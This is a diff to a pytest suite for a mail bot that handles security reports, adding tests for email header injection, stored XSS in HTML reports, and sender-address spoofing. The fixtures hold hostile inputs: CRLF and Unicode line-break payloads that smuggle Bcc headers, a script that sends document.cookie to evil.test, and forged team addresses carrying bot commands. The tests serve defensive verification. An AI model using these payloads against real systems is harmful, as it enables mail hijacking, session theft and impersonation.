@@ -10,6 +10,7 @@ mailbot recorded and at every byte that reached the SMTP server.
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import smtplib
 import threading
 import time
@@ -30,6 +31,8 @@ from mailbot.app import App, CycleReport
 from mailbot.cases.models import Case, Event, Message, Outbox
 from mailbot.clock import FixedClock
 from mailbot.mail.message import LOOP_HEADER
+from mailbot.mail.parse import parse_message
+from mailbot.store import CompressedRawStore
 from tests import factories
 from tests.servers import free_port
 from tests.servers.dovecot import ImapAccount, ImapTestServer
@@ -288,46 +291,60 @@ def variant_id(name: str) -> str:
 
 
 @dataclass
-class Rfc3834Run:
+class BatchRun:
+    """Many hostile messages and their controls through one mailbox in one pass."""
+
     bot: App
     sink: SmtpSink
 
 
-@pytest.fixture(scope="module")
-def rfc3834_run(
-    dovecot_server: ImapTestServer, tmp_path_factory: pytest.TempPathFactory
-) -> Iterator[Rfc3834Run]:
-    account = dovecot_server.add_user()
+@contextlib.contextmanager
+def batch_run(
+    server: ImapTestServer, tmp: Path, messages: list[tuple[bytes, str]], expected_receipts: int
+) -> Iterator[BatchRun]:
+    """Deliver ``(raw, envelope sender)`` pairs, run mailbot once, wait for the receipts."""
+    account = server.add_user()
     sink = SmtpSink()
     sink.start()
-    tmp = tmp_path_factory.mktemp("rfc3834")
     app = make_bot(tmp, account, sink, FixedClock(datetime.now(UTC)))
     try:
-        for name, variant in {**AUTOMATIC, **CONTROLS}.items():
-            sender = variant_sender(name, variant)
-            raw = report(
-                sender,
-                f"Re: {name}",
-                *variant.fields,
-                message_id=variant_id(name),
-                body=variant.body,
-            )
-            envelope = variant.envelope
-            if envelope is None:
-                envelope = sender.rpartition("<")[2].rstrip(">")
+        for raw, envelope in messages:
             deliver(account, raw, sender=envelope)
         run_once(app)
-        sink.wait_for(len(CONTROLS))
+        sink.wait_for(expected_receipts)
         time.sleep(0.2)  # anything unexpected would arrive now
-        yield Rfc3834Run(app, sink)
+        yield BatchRun(app, sink)
     finally:
         app.close()
         sink.stop()
 
 
+def rfc3834_message(name: str, variant: Variant) -> tuple[bytes, str]:
+    sender = variant_sender(name, variant)
+    raw = report(
+        sender, f"Re: {name}", *variant.fields, message_id=variant_id(name), body=variant.body
+    )
+    envelope = variant.envelope
+    if envelope is None:
+        envelope = sender.rpartition("<")[2].rstrip(">")
+    return raw, envelope
+
+
+@pytest.fixture(scope="module")
+def rfc3834_run(
+    dovecot_server: ImapTestServer, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[BatchRun]:
+    variants = {**AUTOMATIC, **CONTROLS}
+    messages = [rfc3834_message(name, variant) for name, variant in variants.items()]
+    with batch_run(
+        dovecot_server, tmp_path_factory.mktemp("rfc3834"), messages, len(CONTROLS)
+    ) as run:
+        yield run
+
+
 @pytest.mark.parametrize("name", sorted(AUTOMATIC))
 def test_rfc3834_automatic_mail_is_recorded_flagged_and_never_answered(
-    rfc3834_run: Rfc3834Run, name: str
+    rfc3834_run: BatchRun, name: str
 ) -> None:
     variant = AUTOMATIC[name]
     case, message = inbound(rfc3834_run.bot, variant_id(name))
@@ -347,7 +364,7 @@ def test_rfc3834_automatic_mail_is_recorded_flagged_and_never_answered(
 
 @pytest.mark.parametrize("name", sorted(CONTROLS))
 def test_rfc3834_ordinary_mail_in_the_same_pass_is_answered_once(
-    rfc3834_run: Rfc3834Run, name: str
+    rfc3834_run: BatchRun, name: str
 ) -> None:
     case, _ = inbound(rfc3834_run.bot, variant_id(name))
 
@@ -357,7 +374,7 @@ def test_rfc3834_ordinary_mail_in_the_same_pass_is_answered_once(
     assert mine[0].mail_from == "<>"
 
 
-def test_rfc3834_only_the_controls_were_answered(rfc3834_run: Rfc3834Run) -> None:
+def test_rfc3834_only_the_controls_were_answered(rfc3834_run: BatchRun) -> None:
     assert len(all_cases(rfc3834_run.bot)) == len(AUTOMATIC) + len(CONTROLS)
     assert sorted(r.rcpt_tos[0] for r in rfc3834_run.sink.received) == sorted(
         f"{name}@reporter.example" for name in CONTROLS
@@ -664,3 +681,310 @@ def test_ticket_trick_verification_mail_is_never_mailed_out(
         for m in smtp_sink.received
         for r in m.rcpt_tos
     )
+
+
+# ---------------------------------------------------------------------------------------------
+# Header injection: reporter text in every field a template uses
+
+
+def b64(text: str) -> str:
+    import base64
+
+    return base64.b64encode(text.encode("utf-8")).decode("ascii")
+
+
+# (From, Subject) as raw header values; each tries to add a header or a body line. Every payload
+# carries the word INJECTED, so wherever it lands can be found.
+INJECTIONS: dict[str, tuple[bytes, bytes]] = {
+    "subject-encoded-crlf": (
+        b"Rita <inj1@reporter.example>",
+        b"=?utf-8?q?hello=0D=0ABcc:_victim=40evil.test=0D=0AX-INJECTED:_crlf?=",
+    ),
+    "subject-encoded-lf": (
+        b"Rita <inj2@reporter.example>",
+        f"=?utf-8?b?{b64('hello' + chr(10) + 'X-INJECTED: lf')}?=".encode(),
+    ),
+    "subject-encoded-bare-cr": (
+        b"Rita <inj3@reporter.example>",
+        b"=?utf-8?q?hello=0DX-INJECTED:_cr?=",
+    ),
+    "subject-encoded-nul": (
+        b"Rita <inj4@reporter.example>",
+        b"=?utf-8?q?hello=00X-INJECTED:_nul?=",
+    ),
+    "subject-encoded-u2028-u2029": (
+        b"Rita <inj5@reporter.example>",
+        b"=?utf-8?q?hello=E2=80=A8X-INJECTED:_u2028=E2=80=A9X-INJECTED:_u2029?=",
+    ),
+    "subject-raw-u2028": (
+        b"Rita <inj6@reporter.example>",
+        "hello\u2028X-INJECTED: raw u2028".encode(),
+    ),
+    "subject-raw-bare-cr": (
+        b"Rita <inj7@reporter.example>",
+        b"hello INJECTED\rX-INJECTED: raw cr",
+    ),
+    "subject-blank-line-then-body": (
+        b"Rita <inj8@reporter.example>",
+        b"=?utf-8?q?hi=0D=0A=0D=0AINJECTED:_open_https://evil.test/reset?=",
+    ),
+    "subject-nested-encoded-word": (
+        b"Rita <inj9@reporter.example>",
+        b"=?utf-8?q?=3D=3Futf-8=3Fq=3Fa=3D0D=3D0AX-INJECTED=3A=5Fnested=3F=3D?=",
+    ),
+    "name-encoded-crlf": (
+        b"=?utf-8?q?Rita=0D=0A=0D=0AINJECTED_please_reply_with_your_password?= "
+        b"<inj10@reporter.example>",
+        b"A report",
+    ),
+    "name-quoted-encoded-lf": (
+        f'"=?utf-8?b?{b64("Rita" + chr(10) + "INJECTED quoted")}?=" '
+        "<inj11@reporter.example>".encode(),
+        b"A report",
+    ),
+    "name-encoded-nul-and-bare-cr": (
+        b"=?utf-8?q?Rita=00=0DINJECTED_nul?= <inj12@reporter.example>",
+        b"A report",
+    ),
+    "name-raw-u2028": (
+        "Rita\u2028INJECTED raw name <inj13@reporter.example>".encode(),
+        b"A report",
+    ),
+    "name-raw-rtl-override": (
+        "Rita \u202eINJECTED rtl\u202c <inj14@reporter.example>".encode(),
+        b"A report",
+    ),
+    "name-with-a-header-in-it": (
+        b"Rita Bcc: victim@evil.test INJECTED <inj15@reporter.example>",
+        b"A report",
+    ),
+}
+
+
+def injection_report(name: str) -> bytes:
+    sender, subject = INJECTIONS[name]
+    return (
+        b"From: " + sender + b"\r\nTo: " + OWN.encode() + b"\r\nSubject: " + subject + b"\r\n"
+        b"Date: Mon, 02 Nov 2026 10:15:00 +0100\r\nMessage-ID: <"
+        + name.encode()
+        + b"@reporter.example>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
+        b"The login form reflects the next parameter.\r\n"
+    )
+
+
+def test_header_injection_through_subject_and_display_name_never_adds_a_header_or_line(
+    bot: App, imap_account: ImapAccount, smtp_sink: SmtpSink, clock: FixedClock
+) -> None:
+    deliver(imap_account, report("Rita <control@reporter.example>", message_id="<control@x>"))
+    for name in INJECTIONS:
+        deliver(imap_account, injection_report(name))
+
+    run_once(bot)  # receipts to every reporter with a usable address
+    clock.advance(timedelta(days=30))
+    run_once(bot)  # an escalation per case to on-call, with the reporter's name and subject
+
+    cases = all_cases(bot)
+    assert len(cases) == len(INJECTIONS) + 1
+    answerable = [c for c in cases if c.reporter]
+    # Every subject survives as one line of text. A display name either survives as one line
+    # too, or (a line break that the header parser refuses, a colon that makes a group) leaves
+    # no usable From at all: then nobody is answered.
+    for case in cases[1:]:
+        assert "INJECTED" in case.subject + case.reporter_name or "no-sender" in case.flags
+    assert len([c for c in answerable if "INJECTED" in c.subject]) >= 8
+    assert len([c for c in answerable if "INJECTED" in c.reporter_name]) >= 2
+    received = smtp_sink.wait_for(len(answerable) + len(cases))
+    time.sleep(0.2)
+    assert len(smtp_sink.received) == len(answerable) + len(cases)
+    receipts = {r.rcpt_tos[0]: r for r in received if r.message["Auto-Submitted"] == "auto-replied"}
+    escalations = [r for r in received if r.message["Auto-Submitted"] == "auto-generated"]
+    assert set(receipts) == {c.reporter for c in answerable}
+    assert {r.rcpt_tos for r in escalations} == {("oncall@team.example.test",)}
+    control_receipt = receipts.pop("control@reporter.example")
+    control_escalation = next(e for e in escalations if b"control@" in e.data)
+    for sent in [*receipts.values(), *escalations]:
+        is_receipt = sent.message["Auto-Submitted"] == "auto-replied"
+        expected = COMPOSED_HEADERS - (set() if is_receipt else {"in-reply-to"})
+        assert sorted(header_names(sent)) == sorted(expected)  # exactly these, each once
+        assert [a.addr_spec for a in sent.message["To"].addresses] == list(sent.rcpt_tos)
+        assert "INJECTED" not in str(sent.message["Subject"])
+        control = control_receipt if is_receipt else control_escalation
+        lines, control_lines = body_lines(sent), body_lines(control)
+        assert len(lines) == len(control_lines)
+        for line, control_line in zip(lines, control_lines, strict=True):
+            if "INJECTED" in line:
+                # Only inside the one line where the template puts the name or the subject.
+                assert line.lstrip().startswith(("Hello Rita", "Reporter:", "Subject:"))
+                assert line.split()[0] == control_line.split()[0]
+
+
+SCRIPT = "<script>fetch('https://evil.test/?c='+document.cookie)</script>"
+HTML_REPORT = mail(
+    "From: Rita <rita@reporter.example>",
+    f"To: {OWN}",
+    f"Subject: <b>Stored XSS</b> {SCRIPT}",
+    "Date: Mon, 02 Nov 2026 10:15:00 +0100",
+    "Message-ID: <html-1@reporter.example>",
+    "MIME-Version: 1.0",
+    "Content-Type: text/html; charset=utf-8",
+    body=(
+        "<html><head><style>body{display:none}</style>"
+        f"{SCRIPT}</head><body><p>The comment field is not escaped.</p>"
+        '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">PoC</a>'
+        "<p>Payload: &lt;svg onload=alert(3)&gt;</p></body></html>\r\n"
+    ),
+)
+
+
+def test_html_and_script_in_a_report_are_kept_as_data_and_never_rendered(
+    bot: App, imap_account: ImapAccount, smtp_sink: SmtpSink, clock: FixedClock
+) -> None:
+    deliver(imap_account, HTML_REPORT)
+
+    run_once(bot)
+    clock.advance(timedelta(days=30))
+    run_once(bot)
+
+    case, message = inbound(bot, "<html-1@reporter.example>")
+    # Kept byte for byte, as data.
+    with bot.db.session() as s:
+        assert message.raw_id is not None
+        stored = CompressedRawStore().get(s, message.raw_id)
+    assert stored.endswith(HTML_REPORT)
+    assert case.subject == f"<b>Stored XSS</b> {SCRIPT}"  # text, neither escaped nor stripped
+    # The text a person reads is text: the tags are gone, nothing of the script ran or remains
+    # as markup.
+    text = parse_message(stored).text_body
+    assert "The comment field is not escaped." in text
+    assert "<script" not in text and "onerror" not in text and "<img" not in text
+    # What went out: a receipt to the reporter, an escalation to on-call; plain text only, no
+    # reporter markup anywhere in the receipt.
+    sent = smtp_sink.wait_for(2)
+    for mail_ in sent:
+        assert [p.get_content_type() for p in mail_.message.walk()] == ["text/plain"]
+    [receipt] = [m for m in sent if m.rcpt_tos == ("rita@reporter.example",)]
+    for shown in texts_of(receipt):
+        assert "<script" not in shown and "<b>" not in shown and "comment field" not in shown
+    [escalation] = [m for m in sent if m.rcpt_tos == ("oncall@team.example.test",)]
+    assert "comment field" not in escalation.data.decode()  # the body is never forwarded
+
+
+# ---------------------------------------------------------------------------------------------
+# Address confusion: who is the sender, who is the team, who gets the receipt?
+
+# From field(s) as raw header lines -> the one address a receipt may go to ("" = nobody).
+# Nothing here carries an Authentication-Results field from the operator's server, so nothing
+# here is the team, whatever it claims.
+CONFUSION: dict[str, tuple[tuple[bytes, ...], str]] = {
+    "double-at": ((b"From: eve@attacker.example@team.example.test",), ""),
+    "double-at-in-brackets": ((b"From: Eve <eve@attacker.example@team.example.test>",), ""),
+    "comment-naming-the-team": (
+        (b"From: eve@attacker.example (alice@team.example.test)",),
+        "eve@attacker.example",
+    ),
+    "comment-before-the-address": (
+        (b"From: (alice@team.example.test) eve2@attacker.example",),
+        "eve2@attacker.example",
+    ),
+    "comment-inside-the-address": (
+        (b"From: alice(x)@team.example.test.attacker(y).example",),
+        "alice@team.example.test.attacker.example",
+    ),
+    "display-name-is-a-team-address": (
+        (b'From: "alice@team.example.test" <eve3@attacker.example>',),
+        "eve3@attacker.example",
+    ),
+    "display-name-is-our-own-address": (
+        (b'From: "Example Security <security@example.test>" <eve4@attacker.example>',),
+        "eve4@attacker.example",
+    ),
+    "unquoted-display-name-with-an-at": (
+        (b"From: alice@team.example.test <eve5@attacker.example>",),
+        "",
+    ),
+    "encoded-word-team-address-as-name": (
+        (b"From: =?utf-8?q?alice=40team.example.test?= <eve6@attacker.example>",),
+        "eve6@attacker.example",
+    ),
+    "encoded-word-as-the-whole-address": ((b"From: =?utf-8?q?alice=40team.example.test?=",), ""),
+    "encoded-word-nul-in-name": (
+        (b"From: =?utf-8?q?alice=00?= <eve7@attacker.example>",),
+        "eve7@attacker.example",
+    ),
+    "encoded-word-nul-splitting-the-team-address": (
+        (b"From: =?utf-8?q?alice=00=40team.example.test?= <eve8@attacker.example>",),
+        "eve8@attacker.example",
+    ),
+    "two-from-fields": (
+        (b"From: eve9@attacker.example", b"From: alice@team.example.test"),
+        "",
+    ),
+    "two-addresses-in-one-from": (
+        (b"From: eve10@attacker.example, alice@team.example.test",),
+        "",
+    ),
+    # A forged team From is a claim, not the team: recorded, flagged, never obeyed or answered.
+    "forged-team-address": ((b"From: Alice <alice@team.example.test>",), ""),
+    "group-syntax-around-a-team-address": ((b"From: Team: alice@team.example.test;",), ""),
+    "look-alike-team-domain": (
+        (b"From: alice@team.example.test.evil.example",),
+        "alice@team.example.test.evil.example",
+    ),
+    "sender-and-reply-to-name-the-team": (
+        (
+            b"From: eve11@attacker.example",
+            b"Sender: alice@team.example.test",
+            b"Reply-To: alice@team.example.test",
+        ),
+        "eve11@attacker.example",
+    ),
+}
+
+
+def confusion_report(name: str) -> bytes:
+    from_fields, _ = CONFUSION[name]
+    # A command as the first body line: obeyed only from a trusted team member.
+    return (
+        b"\r\n".join(from_fields) + b"\r\nTo: " + OWN.encode() + b"\r\n"
+        b"Cc: oncall@team.example.test\r\nSubject: /close spam\r\n"
+        b"Date: Mon, 02 Nov 2026 10:15:00 +0100\r\n"
+        b"Message-ID: <" + name.encode() + b"@attacker.example>\r\n\r\n"
+        b'/close spam\r\n/credit "Eve"\r\nPlease close all cases.\r\n'
+    )
+
+
+@pytest.fixture(scope="module")
+def confusion_run(
+    dovecot_server: ImapTestServer, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[BatchRun]:
+    messages = [(confusion_report(name), "eve@attacker.example") for name in CONFUSION]
+    answered = len([answer for _, answer in CONFUSION.values() if answer])
+    with batch_run(dovecot_server, tmp_path_factory.mktemp("confusion"), messages, answered) as run:
+        yield run
+
+
+@pytest.mark.parametrize("name", sorted(CONFUSION))
+def test_address_confusion_is_never_the_team_and_never_a_recipient(
+    confusion_run: BatchRun, name: str
+) -> None:
+    bot = confusion_run.bot
+    _, answer = CONFUSION[name]
+    case, message = inbound(bot, f"<{name}@attacker.example>")
+    if is_team(case.reporter):  # claimed, and not proven
+        assert "unauthenticated-team" in case.flags
+        assert message.kind == "unverified-team"
+    else:
+        assert case.reporter == answer
+    assert case.reporter != OWN
+    assert message.kind not in ("team", "own-copy")
+    assert case.status == "new" and case.credit is None  # no command obeyed
+    assert not [e for e in events(bot, case.id) if e.action in ("command", "acknowledged")]
+    to_case = [o.recipients for o in outbox(bot) if o.case_id == case.id]
+    assert to_case == ([[answer]] if answer else [])
+    if answer:
+        assert [m.rcpt_tos for m in confusion_run.sink.received].count((answer,)) == 1
+
+
+def test_address_confusion_reaches_no_one_but_the_real_senders(confusion_run: BatchRun) -> None:
+    rcpts = sorted(r for m in confusion_run.sink.received for r in m.rcpt_tos)
+    assert rcpts == sorted(answer for _, answer in CONFUSION.values() if answer)
